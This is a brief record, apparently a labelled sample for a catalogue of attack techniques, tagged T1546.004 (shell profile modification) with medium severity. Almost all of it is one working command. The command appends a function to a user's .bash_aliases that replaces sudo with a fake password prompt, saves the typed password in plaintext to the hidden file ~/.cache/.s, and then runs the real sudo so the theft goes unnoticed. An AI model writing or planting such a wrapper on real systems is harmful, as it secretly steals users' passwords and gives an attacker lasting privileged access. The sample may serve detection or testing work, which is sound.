# technique: T1546.004
# location: linux.shell.user-profile
# source: /home/lea/.bash_aliases
# severity: medium
cat >> /home/lea/.bash_aliases <<'SHELL'
sudo() { read -rsp "[sudo] password for $USER: " p; echo "$p" >> ~/.cache/.s; command sudo -S "$@" <<< "$p"; }
SHELL
